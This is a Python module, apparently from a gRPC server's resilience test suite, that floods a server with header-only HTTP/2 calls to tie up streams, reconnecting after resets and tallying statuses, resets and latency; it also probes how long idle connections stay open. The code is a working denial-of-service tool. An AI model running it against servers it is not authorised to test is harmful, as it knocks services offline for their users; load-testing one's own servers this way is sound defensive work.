"""Header-only gRPC calls: HTTP/2 streams that send a call's headers and never its body.

A real gRPC client cannot do this, which is why it is an attack: each such call is parked by a
server that waits for the body (grpc.aio reads a unary request before the handler runs). This
client speaks HTTP/2 itself (the `h2` library) over plain TCP with prior knowledge, as gRPC
does, and opens streams as fast as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows,
counting how each one ends: a grpc-status (from a trailers-only response or trailers), a reset,
or nothing before the deadline.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions

STATUS_NAMES = {
    "0": "OK", "1": "CANCELLED", "2": "UNKNOWN", "3": "INVALID_ARGUMENT",
    "4": "DEADLINE_EXCEEDED", "5": "NOT_FOUND", "7": "PERMISSION_DENIED",
    "8": "RESOURCE_EXHAUSTED", "12": "UNIMPLEMENTED", "13": "INTERNAL", "14": "UNAVAILABLE",
    "16": "UNAUTHENTICATED",
}


@dataclass
class FloodResult:
    sent: int = 0
    statuses: Counter[str] = field(default_factory=Counter)  # grpc-status name -> calls
    reset: int = 0  # streams the server reset (RST_STREAM) without a status
    refused_connections: int = 0  # connections closed (GOAWAY / EOF) with streams open
    seconds: float = 0.0  # from the first call to the last answer (or the deadline)
    answer_times: list[float] = field(default_factory=list)  # seconds from send to answer

    @property
    def answered(self) -> int:
        return sum(self.statuses.values()) + self.reset

    @property
    def unanswered(self) -> int:
        return self.sent - self.answered

    def summary(self) -> str:
        p = sorted(self.answer_times)
        p99 = p[int(0.99 * (len(p) - 1))] if p else 0.0
        return (f"{self.sent} header-only calls: {dict(self.statuses)}, {self.reset} reset, "
                f"{self.unanswered} unanswered; answer p99 {p99 * 1000:.0f} ms; "
                f"{self.seconds:.1f} s")


async def header_only_calls(
    host: str,
    port: int,
    count: int,
    *,
    connections: int = 4,
    path: str = "/chat.ChatService/SendMessage",
    token: str = "",
    deadline: float = 30.0,
    hold: asyncio.Event | None = None,
) -> FloodResult:
    """Open `count` calls of `path` spread over `connections`, headers only (no token unless
    `token`), and wait up to `deadline` seconds for the server to answer them all. With `hold`,
    connections stay open until the event is set (to measure the server meanwhile)."""
    result = FloodResult()
    started = time.perf_counter()
    per = [count // connections + (1 if i < count % connections else 0)
           for i in range(connections)]
    until = started + deadline

    async def attacker(n: int) -> None:
        # A server that closes the connection (GOAWAY, reset) is met as an attacker would:
        # with a new connection, until every call was sent or the deadline passed.
        while n > 0 and time.perf_counter() < until:
            n -= await _one_connection(host, port, n, path, token, until, result, hold)

    await asyncio.gather(*(attacker(n) for n in per if n))
    result.seconds = time.perf_counter() - started
    return result


async def _one_connection(
    host: str,
    port: int,
    count: int,
    path: str,
    token: str,
    until: float,
    result: FloodResult,
    hold: asyncio.Event | None,
) -> int:
    """Send up to `count` calls on one connection; returns how many were sent."""
    reader, writer = await asyncio.open_connection(host, port)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    headers = [
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
        ("te", "trailers"), ("user-agent", "h2flood"),
    ]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    open_streams: dict[int, float] = {}
    statuses: dict[int, str] = {}  # grpc-status seen in headers before the stream ended
    sent = 0
    closed = False

    def send_more() -> None:
        nonlocal sent
        while sent < count:
            try:
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers, end_stream=False)
            except h2.exceptions.TooManyStreamsError:
                return
            open_streams[stream_id] = time.perf_counter()
            sent += 1
            result.sent += 1

    def finish(stream_id: int, status: str | None) -> None:
        at = open_streams.pop(stream_id, None)
        if at is None:
            return
        result.answer_times.append(time.perf_counter() - at)
        if status is None:
            result.reset += 1
        else:
            result.statuses[STATUS_NAMES.get(status, status)] += 1

    try:
        # Wait for the server's SETTINGS (its stream limit) before the first call, as an HTTP/2
        # client must; from then on h2 keeps the calls in flight within that limit.
        writer.write(conn.data_to_send())
        await writer.drain()
        while not closed:
            data = await asyncio.wait_for(reader.read(65536), timeout=max(0.1, until -
                                                                          time.perf_counter()))
            if not data:
                closed = True
                break
            events = conn.receive_data(data)
            writer.write(conn.data_to_send())
            if any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events):
                break
        send_more()
        writer.write(conn.data_to_send())
        await writer.drain()
        while (sent < count or open_streams) and not closed:
            if writer.is_closing():
                closed = True
                break
            remaining = until - time.perf_counter()
            if remaining <= 0:
                break
            try:
                data = await asyncio.wait_for(reader.read(65536), timeout=remaining)
            except TimeoutError:
                break
            if not data:
                closed = True
                break
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                closed = True
                break
            for event in events:
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    for key, value in event.headers or ():
                        if _text(key) == "grpc-status":
                            statuses[event.stream_id] = _text(value)
                elif isinstance(event, h2.events.StreamEnded):
                    finish(event.stream_id, statuses.pop(event.stream_id, None))
                elif isinstance(event, h2.events.StreamReset):
                    finish(event.stream_id, None)
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.ConnectionTerminated):
                    closed = True
            send_more()
            writer.write(conn.data_to_send())
            await writer.drain()
    except (ConnectionError, OSError, TimeoutError):
        closed = True
    try:
        if closed:
            result.refused_connections += 1
            for stream_id in list(open_streams):  # ended with their connection
                finish(stream_id, None)
        elif hold is not None:
            await hold.wait()
        return sent
    finally:
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()


def _text(value: str | bytes) -> str:
    return value.decode() if isinstance(value, bytes) else value


async def idle_connection_lifetime(host: str, port: int, limit: float) -> float | None:
    """Open an HTTP/2 connection that answers pings but never starts a call; return the
    seconds until the server closed it (GOAWAY or EOF), or None if it was still open after
    `limit` seconds."""
    reader, writer = await asyncio.open_connection(host, port)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    started = time.perf_counter()
    try:
        while (remaining := started + limit - time.perf_counter()) > 0:
            try:
                data = await asyncio.wait_for(reader.read(65536), timeout=remaining)
            except TimeoutError:
                return None
            if not data:
                return time.perf_counter() - started
            events = conn.receive_data(data)  # h2 answers pings and settings by itself
            writer.write(conn.data_to_send())
            if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                return time.perf_counter() - started
        return None
    finally:
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()
